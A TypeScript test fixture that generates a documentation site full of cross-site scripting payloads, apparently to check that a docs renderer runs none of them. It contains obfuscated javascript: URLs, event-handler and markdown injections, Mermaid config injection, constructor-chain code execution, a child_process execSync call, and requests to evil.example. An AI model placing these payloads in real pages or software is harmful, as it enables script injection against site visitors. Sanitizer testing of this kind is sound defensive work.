import { mkdir, writeFile } from 'node:fs/promises';
import path from 'node:path';

// The payload marks the window and requests a forbidden host, if a browser runs it.
const run = "window.hostile=1;document.title='hostile'";
const html = '<img src=x onerror="window.hostile=1"><script>window.hostile=1</script>';
const script = `javascript:${run}`;

const spellings = [
  script,
  `JaVaScRiPt:${run}`,
  `  javascript:${run}`,
  `java&#9;script:${run}`,
  `java&#10;script:${run}`,
  `java&NewLine;script:${run}`,
  `&#1;javascript:${run}`,
  `&#106;&#x61;vascript:${run}`,
  `javascript&colon;${run}`,
  `javascript:%77indow.hostile=1`,
  `javascript://x%0a${run}`,
  `view-source:javascript:${run}`,
  `vbscript:${run}`,
  `data:text/html,<script>${run}</script>`,
  `data:text/html;base64,PHNjcmlwdD5wYXJlbnQuaG9zdGlsZT0xPC9zY3JpcHQ+`,
  `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='window.hostile=1'/>`,
  `blob:null/x`,
  `filesystem:x`,
];

const places: [tag: string, attribute: string][] = [
  ...words('href xlink:href xlinkHref HREF ping download').map((name): [string, string] => ['a', name]),
  ...words('src srcset longdesc lowsrc dynsrc usemap').map((name): [string, string] => ['img', name]),
  ...words('src srcdoc SRCDOC srcDoc').map((name): [string, string] => ['iframe', name]),
  ...words('formaction formAction FORMACTION').map((name): [string, string] => ['button', name]),
  ...words('src poster').map((name): [string, string] => ['video', name]),
  ...words('background').map((name): [string, string] => ['table', name]),
  ['form', 'action'],
  ['input', 'formaction'],
  ['object', 'data'],
  ['object', 'codebase'],
  ['embed', 'src'],
  ['applet', 'code'],
  ['area', 'href'],
  ['body', 'background'],
  ['audio', 'src'],
  ['source', 'src'],
  ['track', 'src'],
  ['link', 'href'],
  ['base', 'href'],
  ['blockquote', 'cite'],
  ['use', 'href'],
  ['use', 'xlink:href'],
  ['image', 'href'],
  ['feImage', 'href'],
  ['set', 'to'],
  ['animate', 'values'],
  ['div', 'style'],
  ['div', 'data'],
];

const events =
  words(`onload onerror onclick onmouseover onmouseenter onfocus onblur ontoggle onanimationstart ontransitionend onbegin onpointerover
  onpointerrawupdate onscroll onwheel onbeforetoggle onbeforematch onstart oncut oncanplay onloadstart onresize onpageshow ONCLICK onClick oNfOcUs`);

const components =
  words(`Card CardGroup Columns Column Note Tip Info Warning Check Danger Callout Accordion AccordionGroup CodeGroup CodeBlock Tabs Tab Steps
  Step Frame ParamField ResponseField Expandable Icon Tooltip Badge Update Tree Tree.Folder Tree.File RequestExample ResponseExample Snippet Panel View Tile
  Visibility Color Color.Item Mermaid Latex Banner Video Image Link`);
const props =
  words(`title href icon img cta label tip caption color description name path query body header type default arrow iconType src alt tags rss
  headline file filename lang className style id width height video`);

const chains = [
  "[].constructor.constructor('window.hostile=1;globalThis.hostile=1')()",
  "''.constructor.constructor('globalThis.hostile=1')()",
  "({}).__proto__.constructor.constructor('globalThis.hostile=1')()",
  "(() => {}).constructor('globalThis.hostile=1')()",
  "(async () => {}).constructor('globalThis.hostile=1')()",
  "`${[].constructor.constructor('globalThis.hostile=1')()}`",
  "[]['con' + 'structor']['con' + 'structor']('globalThis.hostile=1')()",
  "Reflect.construct(Function, ['globalThis.hostile=1'])()",
  "new Function('globalThis.hostile=1')()",
  "eval('globalThis.hostile=1')",
  "import('data:text/javascript,globalThis.hostile=1')",
  'tag`${globalThis.hostile = 1}`',
  '(globalThis.hostile = 1)',
  'globalThis.hostile++',
  '{ get a() { globalThis.hostile = 1 } }.a',
  "process.mainModule.require('child_process').execSync('touch /tmp/hostile')",
];

const page = (title: string, blocks: string[]) => `---\ntitle: ${title}\n---\n\n${blocks.join('\n\n')}\n\nThe end.\n`;
const everywhere = spellings.map((address) =>
  places.map(([tag, name]) => `<${tag} ${name}="${address}">x</${tag}>`).join('\n\n'),
);
const inSvg = spellings.map(
  (address) =>
    `<svg><a href="${address}"><text>x</text></a><a xlink:href="${address}"><circle r="9" /></a><animate attributeName="href" to="${address}" /></svg>`,
);
const handlers = words('div img svg a details video input body p iframe style marquee').map((tag) =>
  events.map((event) => `<${tag} src="x" tabindex="0" open autofocus ${event}="window.hostile=1">x</${tag}>`).join('\n\n'),
);
const bodies = [
  '<script>window.hostile=1</script>',
  '<ScRiPt>window.hostile=1</sCrIpT>',
  '<script src="/evil.js"></script>',
  '<script type="module">window.hostile=1</script>',
  '<svg><script>window.hostile=1</script></svg>',
  '<svg><foreignObject><iframe srcdoc="<script>parent.hostile=1</script>" /></foreignObject></svg>',
  '<math href="javascript:window.hostile=1">x</math>',
  '<style>@import "https://evil.example/x.css"; * { background: url(https://evil.example/x) }</style>',
  '<noscript><p title="</noscript><img src=x onerror=window.hostile=1>"></noscript>',
  '<textarea></textarea><img src=x onerror=window.hostile=1>',
  '<p title="&quot;><img src=x onerror=window.hostile=1>">x</p>',
  '[x](<javascript:window.hostile=1>) ![x](x"onerror="window.hostile=1) [y](/x "\\" onmouseover=\\"window.hostile=1")',
  '```"><img src=x onerror=window.hostile=1>\n</code></pre><img src=x onerror=window.hostile=1>\n```',
  '```js title="<img src=x onerror=window.hostile=1>" icon="javascript:window.hostile=1"\nx\n```',
  '## Heading {#"><img src=x onerror=window.hostile=1>}',
  '# <img src=x onerror=window.hostile=1>',
  ':::note[<img src=x onerror=window.hostile=1>]\nx\n:::',
  '| <img src=x onerror=window.hostile=1> |\n| --- |\n| </table><script>window.hostile=1</script> |',
  '[^"><img src=x onerror=window.hostile=1>]\n\n[^"><img src=x onerror=window.hostile=1>]: x',
  '{{evil}} {{ evil }}',
];

const evilFile = 'https://evil.example/x.svg';
const settings = JSON.stringify({
  securityLevel: 'loose',
  htmlLabels: true,
  themeCSS: `* { background: url(${evilFile}) }`,
  fontFamily: `x; background: url(${evilFile})`,
  themeVariables: { fontFamily: `x; background: url(${evilFile})`, primaryColor: `url(${evilFile})` },
  flowchart: { htmlLabels: true },
});
/** The last one is left to the browser, whose script then draws the others, too. */
export const diagrams = [
  `graph TD\n  A["${html.replaceAll('"', "'")}"] --> B`,
  `graph TD\n  A --> B\n  click A "${script}"\n  click B call alert("hostile")`,
  `%%{init: ${settings}}%%\ngraph TD\n  A["<b>x</b><img src='${evilFile}'>"] --> B`,
  `---\nconfig: ${settings}\n---\ngraph TD\n  A["<iframe src='${script}'></iframe>"] --> B`,
  `graph TD\n  A --> B\n  style A fill:url(${evilFile}#a),background:url(${evilFile})\n  classDef b mask:u\\72l(${evilFile})\n  class B b`,
  `graph TD\n  A@{ img: "${evilFile}", label: "x" }\n  B@{ "\\x69mg": "${evilFile}", label: "y" }`,
  `sequenceDiagram\n  rect url(${evilFile})\n  A->>B: <img src=x onerror=window.hostile=1>\n  end\n  link A: x @ ${script}`,
  `classDiagram\n  class A { <script>window.hostile=1</script> }\n  link A "${script}" "x"`,
  `C4Context\n  Person(a, "A", "x", $sprite="${evilFile}", $link="${script}")`,
  `gantt\n  title <img src=x onerror=window.hostile=1>\n  section S\n  A :a, 2014-01-01, 30d\n  click a href "${script}"`,
  'graph TD\n  A[not closed --> B',
  'eventmodeling\n\ntf 01 ui CartUI',
];

/** Attribute names and values of every component, as text and as expressions. */
const inComponents = components.map((name) =>
  [script, html.replaceAll('"', '&quot;'), '\\"><img src=x onerror=window.hostile=1>']
    .map((value) => `<${name} ${props.map((prop) => `${prop}="${value.replaceAll('"', '&quot;')}"`).join(' ')}>\n  x\n</${name}>`)
    .concat(
      `<${name} {...{ onClick: 'window.hostile=1' }} dangerouslySetInnerHTML={{ __html: ${JSON.stringify(html)} }}>x</${name}>`,
    )
    .join('\n\n'),
);

const danger = `"><img src=x onerror=window.hostile=1>`;
const config = {
  name: `Hostile ${danger}`,
  description: danger,
  colors: { primary: '#ff0000;}</style><script>window.hostile=1</script>', light: '#00ff00' },
  logo: { light: script, dark: `/logo.svg${danger}`, href: script },
  favicon: `/x.svg${danger}`,
  fonts: { family: `x;}</style>${html}`, source: script },
  navbar: {
    links: [{ label: danger, href: script, icon: danger }],
    primary: { type: 'button', label: danger, href: ` ${script}` },
  },
  footer: {
    socials: { x: script, [danger]: 'https://x.example' },
    links: [{ header: danger, items: [{ label: danger, href: script }] }],
  },
  banner: { content: `${html} [x](${script}) <a href="${script}">x</a>`, dismissible: true },
  background: { image: script, color: { light: '#fff;}</style>' } },
  variables: { evil: html },
  search: { prompt: danger },
  contextual: {
    options: [
      'copy',
      ...spellings
        .filter((url) => !url.includes('&'))
        .flatMap((href) => [
          { title: danger, href },
          { title: danger, href: { base: href, query: [{ key: 'q', value: 'x' }] } },
        ]),
    ],
  },
  seo: { metatags: { [danger]: danger, 'og:title': danger, refresh: `0; url=${script}` } },
  errors: { '404': { redirect: false, title: danger, description: html } },
  markdown: { instructions: html },
  redirects: [
    { source: '/to-script', destination: script },
    { source: `/old${danger}`, destination: '/' },
    { source: '/to-evil', destination: '/bodies#"><img src=x onerror=window.hostile=1>' },
  ],
  navigation: {
    global: { anchors: [{ anchor: danger, href: script, icon: danger }] },
    tabs: [
      {
        tab: danger,
        icon: danger,
        groups: [
          {
            group: danger,
            icon: script,
            tag: danger,
            pages: words('index addresses svg handlers bodies bodies-md diagrams chains components frontmatter link'),
          },
        ],
      },
      { tab: 'Out', href: script },
      { tab: 'API', openapi: 'api.json', asyncapi: 'events.json' },
    ],
  },
};

/** A schema with a text in every field that has one. */
function schemaOf(text: string) {
  return {
    ...{
      title: text,
      description: text,
      type: 'object',
      required: [text],
      format: text,
      pattern: text,
      default: text,
      example: text,
    },
    properties: {
      [text]: {
        title: text,
        description: text,
        type: 'string',
        format: text,
        enum: [text],
        default: text,
        example: text,
        const: text,
      },
      list: { type: 'array', description: text, items: { oneOf: [{ title: text, description: text }, { type: text }] } },
    },
    additionalProperties: { type: 'object', title: text, description: text, properties: { [text]: { description: text } } },
    anyOf: [
      { title: text, properties: { a: { description: text } } },
      { title: text, properties: { b: { description: text } } },
    ],
    discriminator: { propertyName: text, mapping: { [text]: text } },
    externalDocs: { url: text, description: text },
    xml: { name: text },
  };
}

/** An operation with a text in every field that has one. */
function operation(text: string, index: number) {
  const schema = schemaOf(text);
  const examples = { [text]: { summary: text, description: text, value: text }, other: { value: { [text]: text } } };
  const content = {
    [text]: { schema, examples },
    'application/json': { schema, examples },
    'text/html': { schema, example: text },
  };
  const parameters = ['path', 'query', 'header', 'cookie'].map((location) => ({
    ...{ name: text, in: location, description: text, style: text, example: text },
    schema: { type: 'string', description: text, enum: [text], default: text, format: text },
  }));
  return {
    ...{ summary: `${index} ${text}`, description: text, operationId: `${text}${index}`, tags: [text], parameters },
    externalDocs: { url: text, description: text },
    servers: [
      ...[text, ...spellings].map((url) => ({ url, description: text })),
      { url: `https://{${text}}.example`, variables: { [text]: { default: text, enum: [text], description: text } } },
    ],
    security: [{ [text]: [text] }, { key: [] }],
    requestBody: { description: text, content },
    responses: {
      200: { description: text, headers: { [text]: { description: text, schema } }, content },
      [text]: { description: text, content },
    },
    callbacks: {
      [text]: { [text]: { post: { summary: text, description: text, requestBody: { description: text, content } } } },
    },
    'x-codeSamples': [{ lang: text, label: text, source: text }],
    'x-mint': { content: text, metadata: { description: text, icon: text, tag: text } },
  };
}

/** Each in all fields of an operation; the URLs of servers have all spellings in each. */
const attacks = [
  ...[danger, html, script, bodies.join('\n\n'), chains.join('\n\n')],
  ...spellings.filter((_, index) => index % 4 === 1),
];
const api = {
  openapi: '3.1.0',
  info: { title: danger, description: html, version: danger, contact: { name: danger, url: script } },
  servers: [{ url: script, description: danger }],
  tags: attacks.map((text) => ({ name: text, description: text, 'x-group': text })),
  paths: Object.fromEntries(attacks.map((text, index) => [`/${index}/${text}/{${text}}`, { post: operation(text, index) }])),
  webhooks: { [danger]: { post: operation(html, 0) } },
  components: {
    securitySchemes: {
      key: { type: 'apiKey', in: 'header', name: danger, description: html },
      ...Object.fromEntries(
        attacks.map((text) => [text, { type: 'oauth2', description: text, flows: { [text]: { scopes: { [text]: text } } } }]),
      ),
    },
  },
};

/** A channel with a text in every field that has one, and its operation. */
function channel(text: string, index: number) {
  const schema = schemaOf(text);
  const bindings = { [text]: { [text]: text, list: [text], key: schema }, ws: { method: text, query: schema } };
  const externalDocs = { url: text, description: text };
  const about = { title: text, summary: text, description: text, tags: [{ name: text }], externalDocs, bindings };
  const correlationId = { location: text, description: text };
  const examples = [{ name: text, summary: text, headers: { [text]: text }, payload: { [text]: text } }];
  const $ref = `#/channels/c${index}`;
  return {
    channel: {
      ...about,
      address: `${text}/{${index}}`,
      parameters: { [text]: { description: text, enum: [text], default: text, examples: [text], location: text } },
      messages: {
        [text]: { ...about, name: text, contentType: text, correlationId, headers: schema, payload: schema, examples },
        code: { ...about, payload: { schemaFormat: text, schema: text } },
      },
      'x-mint': { content: text, metadata: { description: text, icon: text, tag: text } },
    },
    operation: {
      ...{ ...about, action: 'send', channel: { $ref }, reply: { address: correlationId, channel: { $ref } } },
      security: [
        { type: text, description: text },
        { type: 'httpApiKey', name: text, in: text, description: text },
      ],
    },
  };
}
const channels = attacks.map(channel);
const variables = { [danger]: { default: danger, enum: [danger], description: html } };
const streams = {
  asyncapi: '3.0.0',
  info: { title: danger, version: danger },
  servers: {
    [danger]: { protocol: danger, protocolVersion: danger, host: danger, pathname: html, description: html, variables },
    ...Object.fromEntries(attacks.map((text, i) => [`s${i}`, { protocol: text, host: text, title: text, summary: text }])),
  },
  channels: Object.fromEntries(channels.map((one, i) => [`c${i}`, one.channel])),
  operations: Object.fromEntries(channels.map((one, i) => [`${i} ${attacks[i]}`, one.operation])),
};

/** Pages with every known attack, by file: none of them may run. */
const files: Record<string, string> = {
  'docs.json': JSON.stringify(config, null, 2),
  'api.json': JSON.stringify(api),
  'events.json': JSON.stringify(streams),
  'index.mdx': page('Home', [
    '[The script](/evil.js), [the picture](/evil.svg), [the page](/evil.html)',
    '![A picture](/evil.svg)',
  ]),
  'addresses.md': page('Addresses', everywhere),
  'svg.md': page('SVG', inSvg),
  'handlers.md': page('Handlers', handlers),
  'bodies.mdx': page('Bodies', bodies),
  'bodies-md.md': page('Bodies in Markdown', bodies),
  'diagrams.md': page(
    'Diagrams',
    diagrams.map((source) => `\`\`\`mermaid\n${source}\n\`\`\``),
  ),
  'chains.mdx': page('Chains', [
    ...chains.map((code) => `{${code}}`),
    ...chains.map((code) => `<Card title={${code}} href={${code}} {...${code}}>x</Card>`),
    ...chains.map((code) => `export const value = ${code}`),
  ]),
  'components.mdx': page('Components', inComponents),
  'frontmatter.md': `---\n${words(
    'title sidebarTitle description icon tag keywords canonical og:title og:image mode api version iconType',
  )
    .map((key) => `"${key}": ${JSON.stringify(key === 'mode' ? 'wide' : danger)}`)
    .join('\n')}\n---\n\nx\n`,
  'link.md': `---\ntitle: Elsewhere\nurl: "${script}"\n---\n`,
  'evil.js': 'window.hostile = 1;',
  'evil.css': 'a { behavior: url(evil.js); -moz-binding: url(evil.js) }',
  'evil.svg': `<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9" onload="window.hostile=1"><script>window.hostile=1;fetch('https://evil.example/')</script><script href="evil.js"/></svg>`,
  'evil.html': '<!doctype html><title>x</title><script>window.hostile=1</script><script src="evil.js"></script>',
};

export async function writeHostileSite(folder: string): Promise<void> {
  await mkdir(folder, { recursive: true });
  for (const [name, text] of Object.entries(files)) await writeFile(path.join(folder, name), text);
}

function words(text: string): string[] {
  return text.trim().split(/\s+/);
}
